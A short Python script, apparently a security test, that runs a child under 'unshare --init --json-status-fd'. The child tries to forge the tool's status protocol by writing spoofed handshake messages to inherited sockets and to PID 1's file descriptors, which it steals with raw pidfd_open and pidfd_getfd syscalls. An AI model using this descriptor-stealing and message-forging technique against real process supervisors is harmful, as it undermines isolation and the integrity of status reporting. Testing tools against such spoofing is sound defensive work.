import json, os, socket, subprocess

# A program that sends the words of the handshake to every socket that it can find, and to PID 1's, and forges
# who it is.
attack = r'''
import os, socket, struct
for n in range(3, 200):
    try: s = socket.socket(fileno=os.dup(n))
    except OSError: continue
    for w in (b"R", b"X", b"E\"error\": \"forged\""): s.send(w)
libc = __import__("ctypes").CDLL(None, use_errno=True)
pidfd = libc.syscall(434, 1, 0)
for n in range(3, 200):
    fd = libc.syscall(438, pidfd, n, 0)
    if fd < 0: continue
    try: s = socket.socket(fileno=fd)
    except OSError: continue
    for w in (b"R", b"X", b"E\"error\": \"forged\"", b"EE"):
        try: s.send(w)
        except OSError: pass
os._exit(5)
'''
reader, writer = os.pipe()
tool = subprocess.Popen(
    ["unshare", "-p", "--init", "--json-status-fd", str(writer), "/usr/bin/python3", "-c", attack],
    pass_fds=[writer])
os.close(writer)
last = json.loads(os.fdopen(reader).read().strip().split("\n")[-1])
tool.wait()
for name, value in last.items():
    print(name, value)
